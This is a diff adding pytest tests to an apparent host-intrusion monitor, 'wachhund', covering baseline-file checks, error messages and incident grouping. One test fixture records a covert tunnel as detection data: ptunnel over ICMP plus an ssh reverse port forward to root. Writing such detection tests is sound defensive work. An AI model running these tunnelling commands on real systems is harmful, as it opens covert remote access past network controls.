@@ -4,11 +4,15 @@ import json
 import signal
 import subprocess
 import sys
+from dataclasses import asdict, replace
 from pathlib import Path
 
 import pytest
 
+from tests.robots.host_bench import HostBench
+from tests.robots.scripted import ScriptedRobot
 from tests.unit.host.judge.recording import SSHD, START, Recording
+from tests.unit.host.judge.test_unusual import BASELINE, ELSEWHERE, LIMITED, USUAL, calls, robot
 from wachhund.cli import main
 from wachhund_evidence import observation_to_line
 
@@ -106,6 +110,73 @@ def test_a_file_with_something_else_is_one_clear_line(
     assert said.count("\n") == 1 and "holds no list" in said
 
 
+def test_what_was_accepted_as_usual_is_quiet_and_what_is_not_in_it_is_told(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Recorded lines are judged by a baseline as a host prints it; without it they are told as ever."""
+    host = HostBench(tmp_path / "host")
+    row = host.add("rex", ScriptedRobot())
+    host.ledger.baselines.accept(replace(LIMITED, robot=row.id))
+    host.close()
+    capsys.readouterr()
+    assert main(["baseline", "show", "rex", "--accepted", "--json", "--data", str(tmp_path / "host")]) == 0
+    usual = tmp_path / "usual.json"
+    usual.write_text(capsys.readouterr().out)
+    known, strange = tmp_path / "known", tmp_path / "strange"
+    known.write_text(lines_of(calls(robot())))
+    strange.write_text(lines_of(calls(robot(), ELSEWHERE)))
+
+    def rules(*arguments: str) -> list[list[str]]:
+        assert main(["judge", *arguments]) == 0
+        return [json.loads(line)["rules"] for line in capsys.readouterr().out.splitlines()]
+
+    assert rules("--baseline", str(usual), str(known)) == []
+    assert rules(str(known)) == [["behaviour: regular calls (beacon score)"]]
+    (told,) = rules("--baseline", str(usual), str(strange))
+    assert "behaviour: destination that is not on the list" in told
+
+
+def accepted_file(tmp_path: Path, act: object = None, **changed: object) -> Path:
+    """A file as `wachhund baseline show ROBOT --accepted --json` prints it."""
+    path = tmp_path / "usual.json"
+    usual = {**json.loads(json.dumps(asdict(USUAL))), **changed}
+    path.write_text(json.dumps({"baseline": act or BASELINE.to_json(), "usual": usual}))
+    return path
+
+
+@pytest.mark.parametrize(
+    ("changed", "part"),
+    [
+        ({"programs": [{"exe": 7}]}, "programs: exe: "),
+        ({"programs": [{}] * 1_001}, "programs: "),
+        ({"destinations": 7}, "destinations: "),
+        ({"listeners": [["sshd"]]}, "listeners: "),
+        ({"views": None}, "views: "),
+        ({"largest_out": -1}, "volume: largest_out: "),
+        ({"act": {"id": "b1"}}, "baseline: "),
+        ({"act": {**BASELINE.to_json(), "made_t": float("nan")}}, "baseline: made_t: "),
+    ],
+)
+def test_a_baseline_that_is_not_as_it_was_printed_is_one_clear_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], changed: dict[str, object], part: str
+) -> None:
+    """What half of it keeps quiet is nobody's decision."""
+    assert main(["judge", "--baseline", str(accepted_file(tmp_path, **changed)), "-"]) == 2
+    said = capsys.readouterr().err
+    assert said.count("\n") == 1 and part in said
+
+
+@pytest.mark.parametrize(
+    "text", ["", "[]", '{"usual": {}}', '{"usual": {}, "baseline": null}', '{"usual": {}, "baseline": {}, "read": 7}']
+)
+def test_what_was_only_learned_is_no_baseline(tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str) -> None:
+    """It counts when a person accepted it, here too."""
+    (tmp_path / "x").write_text(text)
+    assert main(["judge", "--baseline", str(tmp_path / "x"), "-"]) == 2
+    said = capsys.readouterr().err
+    assert said.count("\n") == 1 and "holds no accepted baseline" in said
+
+
 def test_something_high_is_status_3_even_beside_an_unusable_line() -> None:
     """The graver news wins."""
     ran = judged(lines_of(grave_scene()) + "{broken\n")
@@ -184,3 +255,14 @@ def test_an_interrupt_prints_what_there_is() -> None:
         assert running.wait(30) == 3
         assert json.loads(running.stdout.read())["level"] == "high"
         assert b"Traceback" not in running.stderr.read()
+
+
+def test_an_incident_that_turned_out_to_be_a_part_of_another_is_told_there_only() -> None:
+    """One attack, one line."""
+    scene = Recording()
+    scene.process(600, "/usr/sbin/ptunnel", ["ptunnel", "-p", "203.0.113.7", "-lp", "2000"])
+    scene.process(601, "/usr/bin/ssh", ["ssh", "-N", "-R", "2222:127.0.0.1:22", "-p", "2000", "root@127.0.0.1"])
+    scene.dial(600, ("203.0.113.7", 0), proto="icmp")
+    scene.within(601, 600, 2_000)
+    (incident,) = map(json.loads, judged(lines_of(scene)).stdout.splitlines())
+    assert (incident["tunnel"], incident["joined"]) == ("ptunnel", None)
